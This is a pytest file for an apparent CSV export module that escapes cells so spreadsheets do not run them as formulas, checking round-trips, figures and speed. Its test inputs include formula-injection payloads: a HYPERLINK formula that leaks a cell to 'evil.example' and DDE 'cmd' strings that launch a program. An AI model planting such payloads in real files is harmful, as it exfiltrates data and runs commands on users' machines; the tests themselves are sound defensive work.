"""Cells: no spreadsheet takes a text for a formula, each comes back; figures too."""

from __future__ import annotations

from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from api.services.csv_cells import harmless, meant, shown, text_in

FORMULAS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\tx",
    "\rx",
    "\nx",
    "\0x",
    " =1",
    "\u00a0=1",
    "\u3000 @x",
    "  \tx",
    "two lines\n=1",
    "two lines\r\n  -1",
    "'=1",
    "''=1",
    "' =1",
    "\uff1d1",
    "\uff0b1",
    "\uff0d1",
    "\uff20x",
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
)
TEXTS = ("", "5 - 3", "a=b", "'tis", "'", "a ring", "x\ny", "  x", "'' x", "é=1")
signs = st.sampled_from(" =+-@'\t\r\n\0\u00a0\uff1dab1")
texts = st.text() | st.text(signs, max_size=8)


@pytest.mark.parametrize("text", FORMULAS)
def test_what_could_be_a_formula_gets_one_apostrophe(text):
    assert harmless(text) == "'" + text
    assert meant("'" + text) == text


@pytest.mark.parametrize("text", TEXTS)
def test_what_could_be_none_stays_as_it_is(text):
    assert harmless(text) == text
    assert meant(text) == text


@given(texts)
def test_any_text_comes_back_from_its_cell(text):
    assert meant(harmless(text)) == text


@given(texts)
def test_no_cell_begins_like_a_formula(text):
    cell = harmless(text)
    assert cell[:1] not in set("=+-@\t\r\n\0")
    assert cell.lstrip()[:1] not in set("=+-@\0")


def test_a_text_of_line_ends_alone_takes_no_time():
    assert harmless("'" + "\n" * 131_000).startswith("''")
    assert meant("'" + "x\n" * 65_000)[:2] == "'x"


def test_texts_lose_the_apostrophe_and_figures_take_the_mark():
    assert text_in("'=1+1") == "=1+1"
    assert shown(Decimal("8.50"), ",") == "8,50"
    assert shown(None, ".") == ""
